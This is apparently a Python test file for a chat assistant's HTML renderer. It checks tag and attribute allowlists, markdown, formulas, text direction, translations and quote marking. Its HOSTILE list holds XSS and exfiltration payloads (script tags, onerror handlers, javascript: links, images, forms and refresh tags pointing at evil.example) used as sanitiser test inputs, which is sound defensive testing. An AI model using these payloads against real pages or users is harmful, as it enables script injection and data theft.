"""What the page shows is made of our own tags only, whatever sources, models and readers say."""

from __future__ import annotations

import json
import re
import time
from html.parser import HTMLParser
from importlib.resources import files

import pytest
from hypothesis import given
from hypothesis import strategies as st

from index.types import Document
from tests.harness.growing import in_step
from tests.harness.ui_fakes import DOCUMENTS, FakeAssistant
from ui.page.frame import history_html, shell_html
from ui.page.picker import picker_html
from ui.view import strings
from ui.view.cards import PassageCard, SourceCard, TurnCard, turn_of
from ui.view.documents.reader import document_html
from ui.view.markup.direction import direction
from ui.view.markup.escape import escape, visible
from ui.view.markup.markdown import markdown_html, plain_html
from ui.view.records import exchanges_from_json, turn_from_json, turn_to_json, turns_from_json
from ui.view.render import empty_html, turn_html

TAGS = frozenset(
    """article aside bdi blockquote br button code details div h1 h2 h3 header i li mark ol p pre section span strong
    summary table tbody td th thead time tr ul
    math mfrac mi mn mo mover mrow mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover mroot
    menclose mpadded mphantom""".split()  # noqa: SIM905
)
ATTRIBUTES = frozenset(
    """aria-busy aria-current aria-expanded aria-hidden aria-label aria-pressed class data-answer-words
    data-cite data-do data-doc data-end data-i18n data-i18n-name data-i18n-of data-lang data-name data-said
    open scope data-record data-made-by data-kind data-digital-source-type data-start data-state data-support
    data-turn data-value-language data-value-n datetime dir display lang role style
    tabindex type""".split()  # noqa: SIM905
)
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "[click](javascript:alert(1))",
    "<svg><image href='//evil.example/i.png'/></svg>",
    "<svg/onload=alert(1)>",
    "<div style='position:fixed;inset:0;background:url(//evil.example)'>",
    "<table background=//evil.example><tr><td>",
    "<input type=image src=//evil.example>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus=alert(1) '",
    "</article></aside></li><script>alert(1)</script>",
    "<!-- unclosed",
    "<![CDATA[ x ]]>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "${alert(1)} `${alert(2)}` {{constructor.constructor('alert(3)')()}}",
    "**<b onclick=alert(1)>** `<i>` - <u>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "[1](javascript:alert(1)) [1]<script> [99] [0] [1][2][3]",
    "\x00\x1b[31m\u202ealert\u2066\U000e0041\ufeff",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\ud800<script>\udfff",
    (
        "| <script>alert(1)</script> | ![x](//evil.example/i.png) |\n|---|---|\n"
        "| <img src=x onerror=alert(1)> | [a](javascript:x) |"
    ),
    "| a |\n|---|\n| </td></tr></table><script>alert(1)</script> | `</code>` |",
    "$\\href{javascript:alert(1)}{x}$ $$\\style{position:fixed;inset:0}{x}$$ \\(\\text{<script>alert(1)</script>}\\)",
    "\\[\n\\href{//evil.example}{\\text{&#x3c;img src=x onerror=alert(1)&#x3e;}}\n\\]",
    (
        "$\\class{x}{y}$ $\\cssId{x}{y}$ $\\unicode{x3c}$"
        " $\\begin{array}{<b>}x\\end{array}$ $\\includegraphics{//evil.example}$"
    ),
    "$$" + "{" * 400 + "$$ $$\\frac{$$ $^$ $_$ $$&lt;script&gt;$$",
    "~~~\n</code></pre><script>alert(1)</script>\n~~~",
    "<" * 3000,
    "**" * 2000 + "`" * 2000 + "[" * 2000,
]
ANY_TEXT = st.one_of(st.text(st.characters(), max_size=200), st.sampled_from(HOSTILE)).map(str)


class Reader(HTMLParser):
    """Collects tags, attributes and text; fails on anything that isn't ours or isn't closed."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []
        self.open: list[str] = []
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        names = [name for name, _ in attrs]
        assert set(names) <= ATTRIBUTES, names
        assert len(names) == len(set(names))
        style = dict(attrs).get("style")
        assert style is None or re.fullmatch(r"inline-size:\d{1,3}%", style)
        self.seen.append((tag, dict(attrs)))
        if tag != "br":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError("a declaration")

    unknown_decl = handle_pi = handle_decl


def read(html: str) -> Reader:
    assert not re.search("[\x00\x1b\u202a-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e007f\ud800-\udfff]", html)
    assert not set("{}$`") & set(html)
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert not reader.open
    return reader


def turn_with(text: str, state: str = "answered", llm: str = "openai:x") -> TurnCard:
    card = SourceCard(1, text, text, text, 3, 9, text, text, text, text, text, "partly", text, text)
    passage = PassageCard(text, text, text, 0, 5, text, 0.5, text, text, text, cited=False, ranks={text: (1, 0.5)})
    return TurnCard(text, text, state, f"{text} [1]", (card,), (passage,), text, llm, 1.0, (text,), text)


@given(ANY_TEXT)
def test_escaped_text_reads_back_as_what_is_visible(text: str) -> None:
    assert "".join(read(escape(text)).text) == visible(text)


@given(ANY_TEXT, st.sampled_from(["thinking", "streaming", "answered", "refused", "stopped", "failed"]))
def test_a_turn_holds_only_our_own_markup(text: str, state: str) -> None:
    for llm in ("extractive", text):
        read(turn_html(turn_with(text, state, llm), "ar", record=turn_to_json(turn_with(text, state))))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_in_every_field_stays_text(text: str) -> None:
    for language in strings.LANGUAGES:
        read(turn_html(turn_with(text), language))
    reader = read(
        document_html(Document(text, text, text, text, text, {"outlet": text, "date": text}), [(1, 0, 1)], 1, "en")
    )
    assert visible(text).strip() in "".join(reader.text)
    read(empty_html(((text, text),), "he"))


def test_a_careless_page_would_be_caught() -> None:
    with pytest.raises(AssertionError):
        read(f"<p>{HOSTILE[1]}</p>")
    with pytest.raises(AssertionError):
        read(f'<p class="{HOSTILE[15]}">x</p>')


@given(st.text(st.characters(exclude_characters="*`[]#-•\n\r\x0b\x0c\x85\u2028\u2029"), max_size=120))
def test_markdown_without_marks_keeps_every_visible_character(text: str) -> None:
    shown = "".join(read(markdown_html(text, lambda _: None)).text)
    expected = visible(text).strip()
    assert shown == expected or re.fullmatch(r"\d{1,3}[.)][ ]+(.*)", expected) is not None


@given(st.text(max_size=200))
def test_quoted_answers_keep_every_word(text: str) -> None:
    shown = "".join(read(plain_html(text, lambda _: None)).text)
    assert re.sub(r"\s", "", shown) == re.sub(r"\s", "", visible(text))


def test_markdown_subset() -> None:
    html = markdown_html(
        "# Title\nA **bold** `x<y` [1].\n\n- one [1]\n- two\n\n1. first\n\n```\ncode\n```", lambda n: f"<i>{n}</i>"
    )
    assert html == (
        '<p dir="ltr"><strong>Title</strong></p><p dir="ltr">A <strong>bold</strong> <code>x&lt;y</code>'
        '<span class="bq-kept"> <i>1</i></span>.</p>'
        '<ul dir="ltr"><li dir="ltr"><span class="bq-kept">one <i>1</i></span></li><li dir="ltr">two</li></ul>'
        '<ol dir="ltr"><li dir="ltr">first</li></ol>'
        '<pre dir="ltr"><code>code</code></pre>'
    )


def test_tables_formulas_and_code() -> None:
    html = markdown_html(
        "| Visitor | Price |\n|:--|--:|\n| Adult | 6 euros [1] |\n| Pupil | `a\\|b` ⚠ |\n\n"
        "It is $2 \\times 3$.\n\n$$\nx^2\n$$\n\n"
        "```python\nif x:\n    y = [1]\n```",
        lambda n: f"<i>{n}</i>",
    )
    assert html == (
        '<div class="bq-table"><table dir="ltr"><thead><tr><th dir="ltr">Visitor</th>'
        '<th dir="ltr">Price</th></tr></thead>'
        '<tbody><tr><td dir="ltr">Adult</td><td dir="ltr">6 <span class="bq-kept">euros <i>1</i></span></td></tr>'
        '<tr><td dir="ltr">Pupil</td><td dir="ltr"><code>a|b</code> ⚠</td></tr></tbody></table></div>'
        '<p dir="ltr">It is <math display="inline" dir="ltr"><mrow><mn>2</mn><mo>×</mo><mn>3</mn></mrow></math>.</p>'
        '<p dir="ltr"><math display="block" dir="ltr"><mrow><msup><mi>x</mi><mn>2</mn></msup></mrow></math></p>'
        '<pre dir="ltr"><code>if x:\n    y = [1]</code></pre>'
    )


@pytest.mark.parametrize(
    "text",
    ["It costs $5 and $6.", "US$5/month or CA$7 more", "a $ b $ c", "| no table", "$5+$6", "x || y", "$HOME/$USER"],
)
def test_money_and_bars_are_text(text: str) -> None:
    html = markdown_html(text, lambda _: None)
    assert "<math" not in html and "<table" not in html
    assert "".join(read(html).text) == text


@pytest.mark.parametrize("text", ["$$x^2$$", "\\[x^2\\]", "In general: $$x^2$$", "$$x^2$$ [1]", "\\[x^2\\] ⚠"])
def test_a_formula_between_signs_of_display_is_drawn_in_full_size(text: str) -> None:
    html = markdown_html(text, lambda n: f"<i>{n}</i>")
    assert '<math display="block" dir="ltr"><mrow><msup><mi>x</mi><mn>2</mn></msup></mrow></math>' in html


@pytest.mark.parametrize("tex", ["\\frac{", "\\left(", "{" * 60, "^", "x" * 2_000])
def test_a_formula_that_cannot_be_read_is_shown_as_it_is(tex: str) -> None:
    html = markdown_html(f"$${tex}$$", lambda _: None)
    assert tex in "".join(read(html).text)


@pytest.mark.parametrize(
    "unit", ["|", "| a ", "$", "$a+", "\\(", "\\(\\a", "$$", "$$a", "\n$$\n", "|-|\n", "~~~\n", "\\|"]
)
def test_time_grows_in_step_with_hostile_text(unit: str) -> None:
    def seconds(size: int) -> float:
        started = time.process_time()
        markdown_html(unit * (size // len(unit)), lambda _: None)
        return time.process_time() - started

    assert in_step(seconds, 5_000)


def test_only_citations_that_exist_become_chips() -> None:
    turn = turn_of(FakeAssistant().answer("Where is it?"), "t", 0.5)
    html = turn_html(turn, "en")
    assert [attributes["data-cite"] for tag, attributes in read(html).seen if attributes.get("class") == "bq-chip"] == [
        "1",
        "2",
        "3",
    ]
    assert "bq-chip" not in turn_html(TurnCard("t", "q", "answered", "It is so [7]."), "en")
    assert "[7]" in turn_html(TurnCard("t", "q", "answered", "It is so [7]."), "en")


def test_no_id_is_given_twice() -> None:
    page = shell_html("en", library=True) + history_html("en") + picker_html("en")
    ids = re.findall(r'\sid="([^"]+)"', page)
    assert len(ids) > 10
    assert len(ids) == len(set(ids))


def test_the_quote_is_marked_within_its_passage() -> None:
    for question in ("Where is it?", "أين المصنع؟", "埃及愿意做什么？"):
        turn = turn_of(FakeAssistant().answer(question), "t", 0.5)
        for card in turn.sources:
            text = DOCUMENTS[card.document_id].text
            assert text[card.start : card.end] == card.quote
            assert card.before.removeprefix("… ") + card.quote + card.after.removesuffix(" …") in text


def test_the_reader_marks_exactly_the_quote() -> None:
    document = DOCUMENTS["masr-aliraq-taawun-askari"]
    html = document_html(document, [(2, 10, 20), (1, 12, 30), (3, -4, 9), (4, 5, 99999)], 1, "en")
    marks = re.findall(r"<mark[^>]*>(.*?)</mark>", html)
    assert marks == [
        escape(document.text[12:30])
    ]  # of two that overlap the one that was asked for; nonsense is left out
    assert 'dir="rtl"' in html


def test_a_long_document_is_cut_around_the_quote() -> None:
    document = Document("d", "T", "s", "en", "x" * 400_000 + "NEEDLE" + "y" * 400_000)
    html = document_html(document, [(1, 400_000, 400_006)], 1, "en")
    assert "<mark" in html and "NEEDLE" in html and len(html) < 400_000
    assert strings.text("en", "reader_cut") in html


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Who?", "ltr"),
        ("AOI قامت الهيئة بتوسيع التعاون", "rtl"),
        ("The word سلام means peace", "ltr"),
        ("שלום", "rtl"),
        ("فارسی است", "rtl"),
        ("123 456", "ltr"),
        ("2021: نعم", "rtl"),
        ("埃及", "ltr"),
        ("מה אמר John Smith על ה-IMF?", "rtl"),
        ("مصر and Iraq signed an agreement", "ltr"),
        ("Where is القاهرة?", "ltr"),
    ],
)
def test_direction_follows_the_letters(text: str, expected: str) -> None:
    assert direction(text) == expected


def test_direction_without_letters_is_the_default() -> None:
    assert direction("12 %", "rtl") == "rtl"


def test_every_text_exists_in_every_language_with_the_same_placeholders() -> None:
    english = strings.table("en")
    for language in strings.LANGUAGES:
        table = strings.table(language)
        assert table.keys() == english.keys(), language
        for key, entry in table.items():
            assert entry.strip(), (language, key)
            assert set(re.findall(r"\{\w+\}", entry)) == set(re.findall(r"\{\w+\}", english[key])), (language, key)
            assert language in {"en", "de", "fr", "es"} or entry != english[key], (language, key)
    with pytest.raises(KeyError):
        strings.table("tlh")


@pytest.mark.parametrize(
    ("llm", "quoted_in", "expected"),
    [
        ("openai:x", "en", "support_supported"),
        ("openai:x", "en-GB", "support_supported"),
        ("openai:x", "und", "support_supported"),
        ("openai:x", "ar", "support_across"),
        ("extractive", "ar", "support_supported"),  # the answer is the quote, whatever was asked
    ],
)
def test_a_quote_is_said_to_share_words_not_to_prove(llm: str, quoted_in: str, expected: str) -> None:
    for language in strings.LANGUAGES:
        for support in ("supported", "partly", "not found"):
            card = SourceCard(1, "d", "T", "s", 0, 5, "words", language=quoted_in, support=support)
            turn = TurnCard("t", "Q?", "Words [1].", "answered", sources=(card,), language="en", llm=llm)
            key = expected if support == "supported" else f"support_{support.replace(' ', '_')}"
            result = re.search(r'<p class="bq-support".*?</p>', turn_html(turn, language), re.DOTALL)
            assert result is not None
            assert f'data-i18n="{key}"' in result.group()
            assert strings.text(language, key) in result.group()


def test_no_language_promises_that_a_quote_supports_its_claim() -> None:
    promises = (
        "support",
        "stütz",
        "respald",
        "étaye",
        "подтвержд",
        "destekl",
        "支持",
        "يؤيد",
        "تأیید",
        "תומך",
        "proof",
    )
    for language in strings.LANGUAGES:
        texts = [entry for key, entry in strings.table(language).items() if key.startswith("support_")]
        assert len(texts) == len(set(texts)) == 4
        assert not [entry for entry in texts if any(word in entry.casefold() for word in promises)]


def test_no_check_mark_stands_beside_a_quote() -> None:
    style = (files("ui") / "static" / "chat.css").read_text("utf-8")
    icon = re.search(r"\.bq-icon-support-supported \{.*?\}", style)
    assert icon is not None
    assert "M5 9h14M5 15h14" in icon.group()  # two lines: like for like


@pytest.mark.parametrize(
    ("wanted", "language"),
    [("pt-BR", "en"), ("fr-CA,fr;q=0.9,en", "fr"), ("xx, he;q=0.5", "he"), ("", "en"), (None, "en"), ("ZH-tw", "zh")],
)
def test_the_interface_language_is_chosen_from_what_the_browser_wants(wanted: str | None, language: str) -> None:
    assert strings.choose(wanted) == language


@given(st.text(), st.lists(st.text(), max_size=3))
def test_a_kept_turn_loses_no_character(text: str, warnings: list[str]) -> None:
    turn = TurnCard(
        "t",
        text,
        "answered",
        text,
        (SourceCard(1, text, text, text, 0, 1, text),),
        (),
        "en",
        "x",
        0.5,
        tuple(warnings),
        text,
    )
    line = turn_to_json(turn)
    assert turn_from_json(line) == turn
    record = next(
        attributes["data-record"]
        for _, attributes in read(turn_html(turn, "en", record=line)).seen
        if "data-record" in attributes
    )
    assert turn_from_json(record or "") == turn  # through the page and back


def test_turns_of_another_shape_are_refused() -> None:
    good = json.loads(turn_to_json(TurnCard("t", "q", "answered")))
    for bad in ({**good, "state": "hacked"}, {**good, "sources": "x"}, {"id": 1}, []):
        with pytest.raises(ValueError, match=r".+"):
            turns_from_json(json.dumps([bad]).encode())


@pytest.mark.parametrize(
    "content", ["", "{", "[]", "{}", '["x"]', "[[1,2]]", "[[[]]]", '[["q"]]', "null", "[" * 90_000]
)
def test_context_that_makes_no_sense_is_left_out(content: str) -> None:
    assert exchanges_from_json(content) == []


def test_context_is_bounded() -> None:
    pairs = [[f"q{n}", "a" * 100_000] for n in range(20)]
    kept = exchanges_from_json(json.dumps(pairs))
    assert [one.question for one in kept] == [f"q{n}" for n in range(14, 20)]
    assert all(len(one.answer) == 4_000 for one in kept)


@pytest.mark.parametrize("language", [code for code in strings.LANGUAGES if code != "en"])
@pytest.mark.parametrize(
    "reason",
    [
        strings.text("en", "question_long", n=5_000, m=4_000),
        strings.text("en", "busy"),
        strings.text("en", "failed_inside"),
        strings.text("en", "nothing_indexed"),
        "ollama:m can't be reached, or broke off at once; check that it is running, and its address",
    ],
)
def test_why_a_question_failed_is_said_in_each_language_and_kept_for_the_next_one(language: str, reason: str) -> None:
    shown = turn_html(TurnCard("t", "Q?", "failed", reason), language)
    assert (
        f'data-said="{escape(reason)}"' in shown
    )  # by it the page says the sentence anew when the language is switched
    assert f">{escape(reason)}<" not in shown


def test_a_table_of_sentences_names_its_cells_for_small_screens() -> None:
    said = "The rent of the flat is 900 pounds a month, and it is paid on the first."
    rows = f'| | Harbour "Road" | Mill |\n| --- | --- | --- |\n| Rent | {said} | 750 |'
    html = markdown_html(rows, lambda _: None)
    assert 'class="bq-table bq-stacked"' in html
    assert '<td dir="ltr" data-name="">Rent</td>' in html and 'data-name="Harbour &quot;Road&quot;">The rent' in html
    assert "data-name" not in markdown_html("| a | b |\n| --- | --- |\n| 1 | 2 |", lambda _: None)
